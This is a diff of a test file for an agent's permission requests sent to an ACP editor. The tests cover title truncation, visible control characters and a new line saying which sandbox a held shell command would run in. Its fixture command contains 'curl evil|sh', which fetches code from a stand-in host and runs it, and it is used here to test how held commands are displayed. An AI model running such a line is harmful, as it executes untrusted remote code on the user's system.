@@ -2,6 +2,7 @@ import { describe, expect, it } from 'vitest';
 import { permissionOutcome, permissionRequest, wholeContent } from '../../src/main/acp/permission.js';
 import type { Action } from '../../src/shared/actions.js';
 import type { GateDecision } from '../../src/shared/approvals.js';
+import { describeSandbox, type SandboxSummary } from '../../src/shared/sandbox.js';
 
 // What an ACP editor is asked for a held action, and what its answer does (acp/permission.ts).
 // The end-to-end path (a real ACP client, the service, a run) is in acp-agent.desktop and acp-describe.fast.
@@ -32,9 +33,21 @@ describe('ACP permission request', () => {
     expect(toolCall.status).toBe('pending');
     expect(toolCall.title).toMatch(/^run shell: echo a+…\[\d+ chars cut\]…a+; curl evil\|sh␍$/);
     expect([...(toolCall.title ?? '')].length).toBeLessThanOrEqual(160);
-    expect(toolCall.content).toEqual([{ type: 'content', content: { type: 'text', text: `run shell: echo ${'a'.repeat(300)}; curl evil|sh␍` } }]);
-    expect(toolCall.content).toEqual(wholeContent(longCommand));
+    expect(toolCall.content?.[0]).toEqual({ type: 'content', content: { type: 'text', text: `run shell: echo ${'a'.repeat(300)}; curl evil|sh␍` } });
+    expect(toolCall.content?.slice(0, 1)).toEqual(wholeContent(longCommand));
     expect(toolCall.rawInput).toEqual({ action: longCommand, why: 'every action is asked', rule: 'mode:ask' });
+  });
+
+  it('says where a held shell command would run: the run\'s sandbox, or no sandbox; nothing for another action (issue 30 item 7)', () => {
+    const boxed: SandboxSummary = { mode: 'read-only', enforcer: 'bubblewrap', workspace: '/w\u001bx', writable: [], network: false, display: true };
+    const shell = { type: 'shell', command: 'ls' } as Action;
+    const text = (content: unknown) => (content as { content: { text: string } }).content.text;
+    const inBox = permissionRequest('p3', ask, shell, boxed).toolCall.content ?? [];
+    expect(inBox.map(text)).toEqual(['run shell: ls', `runs in: ${describeSandbox(boxed).replace('\u001b', '␛')}`]);
+    expect(text(inBox[1])).toContain('can type into any window');
+    expect((permissionRequest('p3', ask, shell).toolCall.content ?? []).map(text)).toEqual(['run shell: ls', 'runs in: no sandbox (full access)']);
+    const click = { type: 'click', x: 1, y: 2, button: 'left', clicks: 1, modifiers: [] } as Action;
+    expect(permissionRequest('p4', ask, click, boxed).toolCall.content).toEqual(wholeContent(click));
   });
 
   it('without the proposal, titles the request by the gate\'s reason (control characters visible) and sends no content', () => {
